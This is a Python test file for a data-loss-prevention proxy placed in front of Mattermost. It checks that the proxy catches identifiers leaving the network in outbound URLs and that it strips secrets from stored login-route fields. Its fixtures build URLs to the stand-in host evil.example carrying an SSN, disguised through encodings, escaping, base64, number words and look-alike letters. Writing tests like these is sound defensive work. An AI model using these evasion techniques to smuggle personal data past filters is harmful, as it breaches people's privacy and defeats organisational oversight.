"""Reads whose query leaves the firm (routes.EGRESS_QUERY_ROUTES) and the login routes'
stored fields (pipeline.credential_fields), unit level.

- an identifier anywhere in a URL Mattermost fetches or redirects to (a path segment,
  segments, a host label, the URL's own query, escaped once or twice, base64), written
  with digits, in number words or with look-alike letters, is found in
  ``egress_items`` through the detector's own gate (generated: hypothesis);
- real links hold nothing the detector finds;
- a clean link is scanned once: the gateway remembers it, and the next read of it passes
  on the synchronous path (``Pipeline.read_passes``) with no scan at all;
- the login routes' fields: JSON, a form body and the query for ``login/cws``
  (``r.ParseForm``), names matched case-insensitively, the password never kept.
"""

from __future__ import annotations

import asyncio
import base64
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dlp_proxy.gateway.pipeline import credential_fields, egress_items
from dlp_proxy.gateway.routes import EGRESS_QUERY_ROUTE_NAMES, match
from tests.filegen import SSN_BODY

WORDS = "zero one two three four five six seven eight nine".split()
DIGITS = [c for c in SSN_BODY if c.isdigit()]
PASSWORD = "correct-horse-battery-staple-7"


def _written(form: str, sep: str) -> str:
    if form == "digits":
        return SSN_BODY
    if form == "words":
        return sep.join(WORDS[int(d)] for d in DIGITS)
    head, last = SSN_BODY.rsplit("-", 1)
    return f"{head}-{last.replace('1', 'l', 1)}"  # a look-alike letter (``536-22-l234``)


def _found(engine: Any, items: list[Any]) -> bool:
    return any(engine.could_find(i.text) and engine.analyze(i.text) for i in items)


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    form=st.sampled_from(["digits", "words", "lookalike"]),
    sep=st.sampled_from(["-", "."]),
    place=st.sampled_from(["segment", "segments", "host", "own-query", "base64", "fragment"]),
    escapes=st.integers(min_value=1, max_value=3),
    name=st.sampled_from(["url", "redirect_to", "state"]),
)
def test_an_identifier_in_a_url_is_never_skipped(
    engine: Any, form: str, sep: str, place: str, escapes: int, name: str
) -> None:
    value = _written(form, sep)
    if place == "segment":
        url = f"https://evil.example/ssn/{value}"
    elif place == "segments":
        url = "https://evil.example/ssn/" + "/".join(value.split(sep if form == "words" else "-"))
    elif place == "host":
        url = f"https://{value.replace('.', '-')}.evil.example/a.png"
    elif place == "own-query":
        url = f"https://evil.example/a?ssn={quote(value, safe='')}"
    elif place == "base64":
        url = "https://evil.example/" + base64.b64encode(f"ssn {value}".encode()).decode()
    else:
        url = f"https://evil.example/a#ssn-{value}"
    for _ in range(escapes):
        url = quote(url, safe="")
    assert _found(engine, egress_items(f"{name}={url}")), url


@pytest.mark.parametrize(
    "url",
    [
        "https://www.bloomberg.com/news/articles/2024-05-17/fed-holds-rates-steady",
        "https://github.com/mattermost/mattermost/pull/29345",
        "https://youtu.be/dQw4w9WgXcQ?t=42",
        "https://docs.google.com/document/d/1aBcD3fGhIjKlMnOpQrStUvWxYz0123456789/edit",
        "https://www.sec.gov/Archives/edgar/data/320193/000032019324000081/aapl-20240629.htm",
        "https://example.com/logo.png",
    ],
)
def test_a_real_link_holds_nothing(engine: Any, url: str) -> None:
    assert not any(engine.analyze(i.text) for i in egress_items("url=" + quote(url, safe="")))


def test_the_routes_whose_query_leaves_are_read() -> None:
    for path in (
        "/api/v4/redirect_location",
        "/api/v4/image",
        "/oauth/authorize",
        "/oauth/gitlab/login",
        "/oauth/google/mobile_login",
        "/oauth/openid/signup",
        "/oauth/gitlab/complete",
        "/signup/gitlab/complete",
        "/login/office365/complete",
        "/api/v3/oauth/gitlab/complete",
        "/login/sso/saml",
        "/api/v4/system/ping",
        "/api/v4/plugins/marketplace",
    ):
        m = match("GET", path)
        assert m.kind == "query" and m.route is not None and m.route.name in EGRESS_QUERY_ROUTE_NAMES, path
    assert match("GET", "/api/v4/users/me").kind == "passthrough"
    assert match("POST", "/oauth/authorize").kind == "no_content"  # its body: credential_fields


def test_the_login_routes_fields() -> None:
    assert credential_fields(
        "/api/v4/users/login/switch",
        (
            '{"current_service":"email","new_service":"ldap","Email":"a@b.c","LDAP_ID":"bob",'
            f'"password":"{PASSWORD}","new_password":"{PASSWORD}","mfa_code":"123456"}}'
        ).encode(),
    ) == {"current_service": "email", "new_service": "ldap", "email": "a@b.c", "ldap_id": "bob"}  # Go's folds
    assert credential_fields("/api/v4/users/login/desktop_token", b'{"token":"t","device_id":"d"}') == {
        "device_id": "d"
    }
    assert credential_fields(
        "/oauth/intune", b'{"access_token":"t","device_id":"d","voip_device_id":"v"}'
    ) == {"device_id": "d", "voip_device_id": "v"}
    assert credential_fields("/api/v4/users/login/type", b'{"login_id":"x"}') == {"login_id": "x"}
    # login/cws: r.ParseForm: the form body and the query, every value
    assert credential_fields(
        "/api/v4/users/login/cws", b"login_id=a&cws_token=secret&utm_campaign=c", "login_id=b"
    ) == {"login_id": "a", "utm_campaign": "c", "login_id#2": "b"}
    assert credential_fields("/api/v4/users/login/cws", b"", "login_id=b&cws_token=s") == {"login_id": "b"}
    # a JSON route's query is not read (its handler reads none); a secret never kept
    assert credential_fields("/api/v4/users/login/desktop_token", b"", "device_id=x") == {}
    assert credential_fields("/api/v4/users/login/sso/code-exchange", b'{"state":"x","login_code":"y"}') == {}
    assert (
        credential_fields("/api/v4/users/password/reset", f'{{"new_password":"{PASSWORD}"}}'.encode()) == {}
    )


class _Counting:
    """The detector, counting its scans."""

    def __init__(self, engine: Any) -> None:
        self.engine = engine
        self.scans = 0

    def __getattr__(self, name: str) -> Any:
        return getattr(self.engine, name)

    def scan(self, items: Any, **kwargs: Any) -> Any:
        self.scans += 1
        return self.engine.scan(items, **kwargs)


POLICY = """
schema: 1
rules:
  - id: npi
    action: block
    match: {entities: [US_SSN]}
"""


def test_a_clean_link_is_scanned_once_then_passes_unread(engine: Any) -> None:
    from dlp_proxy.gateway.pipeline import GatewayConfig, GatewayRequest, Pipeline
    from dlp_proxy.policy.testing import policy_from
    from tests.inprocess import ListArchive

    policy = policy_from(POLICY)
    detector = _Counting(engine)
    archive = ListArchive()
    pipeline = Pipeline(
        detector=detector,
        policy=lambda: policy,
        archive=archive,
        context=None,  # type: ignore[arg-type]
        quarantine=None,
        hash_key=b"k" * 32,
        config=GatewayConfig(),
    )
    try:
        target = "/api/v4/redirect_location?url=" + quote(
            "https://github.com/mattermost/mattermost/pull/29345", safe=""
        )
        headers = {"authorization": "Bearer " + "x" * 26}
        classified = pipeline.classify("GET", target)
        assert not pipeline.read_passes(target, headers, classified)  # (the gate cannot prove a URL empty)
        verdict = asyncio.run(pipeline.handle(GatewayRequest("GET", target, headers, b""), classified))
        assert verdict.forward and detector.scans == 1 and not archive.records
        assert pipeline.read_passes(target, headers, classified)  # remembered clean: no scan, no coroutine
        verdict = asyncio.run(pipeline.handle(GatewayRequest("GET", target, headers, b""), classified))
        assert verdict.forward and detector.scans == 1
        bad = "/api/v4/redirect_location?url=" + quote(f"https://evil.example/{SSN_BODY}", safe="")
        bad_classified = pipeline.classify("GET", bad)
        assert not pipeline.read_passes(bad, headers, bad_classified)
        verdict = asyncio.run(pipeline.handle(GatewayRequest("GET", bad, headers, b""), bad_classified))
        assert not verdict.forward and verdict.response is not None and verdict.response[0] == 403
        assert len(archive.records) == 1
        # a query longer than a link (EGRESS_QUICK_CHARS) is judged in full, its scan
        # charged to its sender: never passed on the uncharged quick read
        long = "/api/v4/redirect_location?url=" + quote("https://example.com/" + "a/" * 2100, safe="")
        long_classified = pipeline.classify("GET", long)
        for _ in range(2):
            assert not pipeline.read_passes(long, headers, long_classified)
            verdict = asyncio.run(pipeline.handle(GatewayRequest("GET", long, headers, b""), long_classified))
            assert verdict.forward
    finally:
        pipeline.scan_pool.shutdown()
